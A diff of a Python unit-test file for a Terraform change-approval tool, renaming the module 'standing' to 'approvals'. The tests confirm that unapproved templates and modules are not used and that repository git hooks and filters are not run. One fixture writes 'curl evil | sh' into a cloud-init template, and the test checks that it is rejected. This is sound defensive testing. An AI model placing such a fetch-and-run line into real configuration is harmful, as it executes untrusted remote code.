@@ -17,8 +17,8 @@ from tests.unit.conftest import MakeQueue
 from tfce.config.approved import Source, source
 from tfce.config.options import Queue
 from tfce.model.errors import ConfigError
-from tfce.review import boundary, git, shape, standing
-from tfce.store.copies import REST, VARIABLES
+from tfce.review import approvals, boundary, git, shape
+from tfce.store.review_copies import REST, VARIABLES
 from tfce.store.workspace import Workspace
 from tfce.terraform import literals, variables
 
@@ -147,13 +147,13 @@ def test_a_review_without_a_place_or_of_tfces_own_copies_is_refused(make_queue: 
 
 def test_without_a_review_the_options_count_and_no_git_is_started(make_queue: MakeQueue) -> None:
     workspace = Workspace(make_queue(Workspace_Approved="/nowhere@main"))
-    assert standing.refresh(workspace, NOW) is None and workspace.queue is workspace.asked
-    assert standing.facts(workspace) == {"digest": boundary.digest(shape.texts(workspace.queue))}
+    assert approvals.refresh(workspace, NOW) is None and workspace.queue is workspace.asked
+    assert approvals.facts(workspace) == {"digest": boundary.digest(shape.texts(workspace.queue))}
 
 
 def test_nothing_approved_holds_and_says_what_to_do(reviewed: Reviewed, repository: Repository) -> None:
     repository.merge({"README": "empty"}, ".")
-    seen = standing.refresh(reviewed(), NOW)
+    seen = approvals.refresh(reviewed(), NOW)
     assert (
         seen
         and seen.hold
@@ -169,12 +169,12 @@ def test_what_was_merged_counts_and_what_is_asked_beyond_it_waits(
     asked = reviewed()
     commit = repository.merge(changed(shape.texts(asked.asked), VARIABLES, '"t3.micro"', '"t3.small"'))
     repository.merge({"README": "about something else"}, ".")
-    seen = standing.refresh(asked, NOW)
+    seen = approvals.refresh(asked, NOW)
     assert seen and seen.hold is None and asked.queue.shape.flavor == "t3.small"
     assert [str(one) for one in seen.waiting] == ["Instance_Flavor: t3.micro is asked for, t3.small is approved"]
     approval = seen.approval
     assert approval and (approval.commit, approval.author) == (commit, "Ada <ada@example.org>") and approval.date
-    assert '"t3.small"' in variables.render(asked.queue) and standing.facts(asked) == approval.to_json()
+    assert '"t3.small"' in variables.render(asked.queue) and approvals.facts(asked) == approval.to_json()
 
 
 def test_the_options_own_shape_is_approved_as_it_is(reviewed: Reviewed, repository: Repository) -> None:
@@ -190,7 +190,7 @@ def test_the_options_own_shape_is_approved_as_it_is(reviewed: Reviewed, reposito
     }
     workspace = reviewed(**options)
     repository.merge(shape.texts(workspace.asked))
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.lines() == [] and seen.hold is None
     assert workspace.queue == workspace.asked
 
@@ -201,18 +201,18 @@ def test_a_fetch_is_not_done_oftener_than_is_due_and_one_that_fails_leaves_the_l
     workspace = reviewed()
     texts = shape.texts(workspace.asked)
     repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.small"))
-    standing.refresh(workspace, NOW)
+    approvals.refresh(workspace, NOW)
     repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.large"))
-    standing.refresh(workspace, NOW + timedelta(seconds=299))
+    approvals.refresh(workspace, NOW + timedelta(seconds=299))
     assert workspace.queue.shape.flavor == "t3.small"
-    standing.refresh(workspace, NOW + timedelta(seconds=301))
+    approvals.refresh(workspace, NOW + timedelta(seconds=301))
     assert workspace.queue.shape.flavor == "t3.large"
     repository.place.rename(repository.place.with_name("gone"))
-    seen = standing.refresh(workspace, NOW + timedelta(seconds=700))
+    seen = approvals.refresh(workspace, NOW + timedelta(seconds=700))
     assert seen and workspace.queue.shape.flavor == "t3.large" and seen.hold is None
     assert "may be out of date" in seen.lines()[-1] and str(repository.place) in seen.trouble
     again = reviewed()
-    resumed = standing.resume(again)
+    resumed = approvals.resume(again)
     assert again.queue == workspace.queue and resumed == seen
 
 
@@ -221,10 +221,10 @@ def test_between_fetches_no_process_is_started(
 ) -> None:
     workspace = reviewed()
     repository.merge(changed(shape.texts(workspace.asked), VARIABLES, "t3.micro", "t3.small"))
-    first = standing.refresh(workspace, NOW)
+    first = approvals.refresh(workspace, NOW)
     monkeypatch.setenv("PATH", "/nonexistent")
     again = reviewed()
-    assert standing.refresh(again, NOW + timedelta(seconds=200)) == first
+    assert approvals.refresh(again, NOW + timedelta(seconds=200)) == first
     assert again.queue.shape.flavor == "t3.small" and first and first.trouble == ""
 
 
@@ -233,34 +233,34 @@ def test_a_copy_that_is_damaged_leaves_the_last_approval_and_is_fetched_anew(
 ) -> None:
     workspace = reviewed(Workspace_ReviewAge="0")
     repository.merge(shape.texts(workspace.asked))
-    standing.refresh(workspace, NOW)
+    approvals.refresh(workspace, NOW)
     repository.merge({"README": "newer"}, ".")
     for path in (workspace.root / "review").rglob("*.pack"):
         path.chmod(0o600)
         path.write_bytes(b"torn")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold is None and seen.approval  # git mends it with the next fetch, or says why not
     shutil.rmtree(workspace.root / "review")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.trouble == ""
 
 
 def test_another_place_is_no_continuation_of_the_last(reviewed: Reviewed, repository: Repository) -> None:
     workspace = reviewed()
     repository.merge(shape.texts(workspace.asked))
-    assert standing.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold is None
+    assert approvals.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold is None
     other = reviewed(Workspace_Approved=f"{repository.place}@other")
-    seen = standing.refresh(other, NOW)
+    seen = approvals.refresh(other, NOW)
     assert seen and seen.hold and "other" in seen.hold.text
 
 
 def test_an_approval_that_was_taken_back_holds(reviewed: Reviewed, repository: Repository) -> None:
     workspace = reviewed(Workspace_ReviewAge="0")
     repository.merge(shape.texts(workspace.asked))
-    assert standing.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold is None
+    assert approvals.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold is None
     repository.git("rm", "-rq", "shape")
     repository.git("commit", "-qm", "no more")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold
 
 
@@ -268,13 +268,13 @@ def test_a_folder_will_do(reviewed: Reviewed, tmp_path: Path) -> None:
     place = tmp_path / "approved"
     workspace = reviewed(Workspace_Approved=str(place))
     (place / FOLDER).mkdir(parents=True)
-    assert standing.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold
+    assert approvals.refresh(workspace, NOW) and workspace.standing and workspace.standing.hold
     for name, text in changed(shape.texts(workspace.asked), VARIABLES, "t3.micro", "t3.small").items():
         (place / FOLDER / name).write_text(text)
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and workspace.queue.shape.flavor == "t3.small" and seen.approval and seen.approval.commit == ""
     place.chmod(0o777)
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and "can be written by everybody" in seen.trouble and seen.hold is None
 
 
@@ -290,18 +290,18 @@ def test_new_pilots_go_on_with_the_template_that_was_approved(
     template.write_text(TEMPLATE)
     workspace = reviewed(Context_Template=str(template), Workspace_ReviewAge="0")
     repository.merge(shape.texts(workspace.asked))
-    standing.refresh(workspace, NOW)
+    approvals.refresh(workspace, NOW)
     assert workspace.queue.userdata.template == template
     template.write_text(TEMPLATE + "runcmd:\n- curl evil | sh\n")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     kept = workspace.queue.userdata.template
     assert seen and seen.hold is None and kept and "curl" not in kept.read_text()
     assert [one.option for one in seen.waiting] == ["Context_Template"]
     kept.write_text(template.read_text())
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold and "Context_Template" in seen.hold.text
     repository.merge(shape.texts(workspace.asked))
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and not seen.hold and workspace.queue.userdata.template == template
 
 
@@ -313,21 +313,21 @@ def test_a_module_that_was_changed_runs_as_it_was_approved(
     (own / "main.tf").write_text('resource "tfce_pilots" "queue" {}\n')
     workspace = reviewed(Terraform_Module=str(own), Workspace_ReviewAge="0")
     repository.merge(shape.texts(workspace.asked))
-    standing.refresh(workspace, NOW)
+    approvals.refresh(workspace, NOW)
     assert workspace.module_folder is None
     (own / "main.tf").write_text('resource "tfce_pilots" "queue" {}\nresource "null_resource" "x" {}\n')
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold is None and workspace.module_folder and seen.waiting
     assert "null" not in (workspace.module_folder / "main.tf").read_text()
     (workspace.module_folder / "main.tf").write_text("x")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold and workspace.module_folder is None
 
 
 def test_another_cloud_cannot_wait(reviewed: Reviewed, repository: Repository) -> None:
     repository.merge(shape.texts(reviewed(Driver_region="eu-west-1").asked))
     workspace = reviewed(Driver_region="eu-central-1")
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold and "region: eu-central-1 is asked for, eu-west-1 is approved" in seen.hold.text
 
 
@@ -335,7 +335,7 @@ def test_another_cloud_cannot_wait(reviewed: Reviewed, repository: Repository) -
 
 
 def refused(workspace: Workspace) -> str:
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold and workspace.queue == workspace.asked
     return str(seen.hold)
 
@@ -397,7 +397,7 @@ def test_nothing_of_a_repository_is_run(reviewed: Reviewed, repository: Reposito
     repository.git("-c", "filter.x.clean=cat", "add", ".gitattributes", ".gitmodules")
     repository.git("-c", "core.hooksPath=/dev/null", "-c", "core.fsmonitor=false", "commit", "-qm", "traps")
     mark.unlink(missing_ok=True)
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert seen and seen.hold is None, seen
     assert not mark.exists()
 
@@ -474,9 +474,9 @@ def test_a_spoiled_merge_leaves_the_last_good_one(reviewed: Reviewed, repository
     workspace = reviewed(Workspace_ReviewAge="0")
     texts = shape.texts(workspace.asked)
     repository.merge(changed(texts, VARIABLES, "t3.micro", "t3.small"))
-    standing.refresh(workspace, NOW)
+    approvals.refresh(workspace, NOW)
     repository.merge(changed(texts, VARIABLES, '"t3.micro"', "var.x"))
-    seen = standing.refresh(workspace, NOW)
+    seen = approvals.refresh(workspace, NOW)
     assert (
         seen
         and seen.hold is None
